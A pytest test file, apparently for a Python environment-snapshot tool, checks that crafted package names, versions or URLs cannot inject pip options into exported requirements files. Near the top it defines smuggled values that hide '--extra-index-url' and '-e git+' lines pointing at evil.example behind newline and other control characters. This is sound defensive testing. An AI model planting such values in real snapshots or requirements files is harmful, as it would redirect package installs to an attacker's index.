"""A package name, version or URL from a crafted snapshot file or store row never becomes a pip
option in ``export --format requirements/constraints``.

On load only control characters, whitespace and a leading ``-`` are refused (real names such as
conda's ``_libgcc_mutex`` and versions such as ``1.1.1w`` or ``0.23ubuntu1`` load); an exporter
comments out whatever is not valid PEP 508/440. Checked with pip's own requirements-file parser
and a real ``pip install --dry-run --no-index -r``.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path
from typing import Any, Dict, List

import pytest
from pydantic import ValidationError

from envparity.export import export
from envparity.model import (
    Collection,
    CondaPackage,
    Package,
    PlatformInfo,
    PythonInfo,
    Snapshot,
)

EVIL_INDEX = "--extra-index-url https://evil.example/simple"
EVIL_EDITABLE = "-e git+https://evil.example/x.git#egg=x"
INJECTIONS = [
    f"1.0\n{EVIL_INDEX}",
    f"1.0\r{EVIL_INDEX}",
    f"1.0\u2028{EVIL_INDEX}",
    f"1.0\x0b{EVIL_EDITABLE}",
    f"1.0\x85{EVIL_EDITABLE}",
    f"1.0 \\\n{EVIL_INDEX}",
]


def _snapshot(packages: List[Any]) -> Snapshot:
    return Snapshot.model_construct(
        **Snapshot(
            snapshot_id="b" * 32,
            captured_at=datetime(2026, 1, 2, 3, 4, 5, tzinfo=timezone.utc),
            role="training",
            packages=[],
            python=PythonInfo(implementation="CPython", version="3.11.7"),
            platform=PlatformInfo(hostname="h"),
            collection=Collection(envparity_version="0.1.0"),
        ).__dict__
        | {"packages": packages}
    )


def _unchecked(**fields: Any) -> Package:
    """A Package as an older envparity (or a crafted row) might hold it: not validated."""
    return Package.model_construct(**{**Package(name="x", version="1").__dict__, **fields})


def _pip_lines(path: Path) -> List[Dict[str, Any]]:
    """What pip makes of each line of a requirements file: requirement text and options."""
    from pip._internal.network.session import PipSession
    from pip._internal.req.req_file import RequirementsFileParser, get_line_parser

    parsed = []
    for line in RequirementsFileParser(PipSession(), get_line_parser(None)).parse(
        str(path), constraint=False
    ):
        options = {
            k: v for k, v in vars(line.opts).items() if v and k not in ("format_control",)
        }
        parsed.append(
            {
                "requirement": getattr(line, "requirement", None),
                "editable": getattr(line, "is_editable", False),
                "options": options,
            }
        )
    return parsed


def _assert_no_option(path: Path) -> None:
    for line in _pip_lines(path):
        assert line["options"] == {} and not line["editable"], (line, path.read_text())
        assert line["requirement"] and "evil" not in line["requirement"], line


@pytest.mark.parametrize("good", ["_libgcc_mutex", "1.1.1w", "0.23ubuntu1", "2.3.1+cpu"])
def test_real_odd_names_and_versions_load(good: str):
    Package(name=good, version=good)
    CondaPackage(name=good, version=good)


@pytest.mark.parametrize(
    "bad", [*INJECTIONS, "-e", "--index-url=x", "1.0 ", "a b", "x\x1b[2J", "\u202e1.0", ""]
)
@pytest.mark.parametrize("field", ["name", "version"])
def test_control_whitespace_and_leading_dash_are_refused_on_load(field: str, bad: str):
    with pytest.raises(ValidationError):
        Package(**{"name": "numpy", "version": "1.0", field: bad})
    with pytest.raises(ValidationError):
        CondaPackage(**{"name": "numpy", "version": "1.0", field: bad})


def test_a_crafted_snapshot_file_is_refused_by_export(tmp_path: Path):
    from envparity.errors import BadInput
    from envparity.refs import load_file

    snap = _snapshot([Package(name="numpy", version="1.26.4")])
    data = json.loads(snap.model_dump_json())
    data["packages"][0]["version"] = f"1.26.4\n{EVIL_INDEX}"
    path = tmp_path / "crafted.json"
    path.write_text(json.dumps(data))
    with pytest.raises(BadInput, match="packages.0.version"):
        load_file(str(path))
    done = subprocess.run(
        [sys.executable, "-m", "envparity", "export", str(path)],
        capture_output=True,
        text=True,
        check=False,
        cwd=str(tmp_path),
        env={"ENVPARITY_HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin"},
    )
    assert done.returncode == 2, done.stderr
    assert "evil" not in done.stdout
    assert "Traceback" not in done.stderr


def test_a_crafted_store_row_is_refused_by_export(tmp_path: Path):
    from envparity.store import open_store

    db = tmp_path / "store.db"
    with open_store(f"sqlite:///{db}") as store:
        store.save(_snapshot([Package(name="numpy", version="1.26.4")]).with_fingerprint())
    conn = sqlite3.connect(db)
    with conn:
        changed = 0
        for table, column in _text_columns(conn):
            cur = conn.execute(
                f"UPDATE {table} SET {column} = replace({column}, ?, ?) "  # noqa: S608
                f"WHERE {column} LIKE '%1.26.4%'",
                ('"1.26.4"', json.dumps(f"1.26.4\n{EVIL_INDEX}")),
            )
            changed += cur.rowcount
    conn.close()
    assert changed, "no row held the package version"
    done = subprocess.run(
        [sys.executable, "-m", "envparity", "export", "b" * 32, "--db", f"sqlite:///{db}"],
        capture_output=True,
        text=True,
        check=False,
        cwd=str(tmp_path),
        env={"ENVPARITY_HOME": str(tmp_path / "home"), "PATH": "/usr/bin:/bin"},
    )
    assert "extra-index-url https://evil" not in done.stdout.replace("\\x0a", "")
    assert "Traceback" not in done.stderr
    assert done.returncode == 2, (done.stdout, done.stderr)


def _text_columns(conn: sqlite3.Connection) -> List[Any]:
    found = []
    for (table,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
        for column in conn.execute(f"PRAGMA table_info({table})"):
            if column[2].upper() in ("TEXT", "VARCHAR", "JSON", ""):
                found.append((table, column[1]))
    return found


@pytest.mark.parametrize("fmt", ["requirements", "constraints"])
def test_exports_comment_out_what_is_not_pep_508_or_440(tmp_path: Path, fmt: str):
    """Packages an older envparity stored unchecked: every hostile name, version or URL becomes a
    comment, and pip's own parser finds nothing but plain requirements."""
    packages = [_unchecked(name="numpy", version=v) for v in INJECTIONS]
    packages += [_unchecked(name=f"x\n{EVIL_INDEX}", version="1.0")]
    packages += [_unchecked(name="-e", version="1.0"), _unchecked(name="ok", version="1.0")]
    packages += [
        _unchecked(
            name="vcs", version="1.0", vcs="git", url=f"https://e.example/x.git\n{EVIL_INDEX}"
        ),
        _unchecked(name="vcs2", version="1.0", vcs="git", url="https://e.example/x.git \\"),
        _unchecked(name="lib", version="0.23ubuntu1"),
    ]
    text = export(_snapshot(packages), fmt, ref="crafted\nref")
    path = tmp_path / "req.txt"
    path.write_text(text)
    for line in text.splitlines():
        assert line.startswith("#") or line in ("ok==1.0", "vcs==1.0", "vcs2==1.0"), line
    _assert_no_option(path)
    assert "ok==1.0" in text.splitlines()

    # And a real pip run: it looks for plain requirements only (with --no-index none is found),
    # never at the injected index.
    done = subprocess.run(
        [sys.executable, "-m", "pip", "install", "--dry-run", "--no-index", "-r", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert "evil.example" not in done.stdout + done.stderr, done.stdout + done.stderr
    assert done.returncode != 0 and "No matching distribution found for" in done.stderr, (
        done.stderr
    )
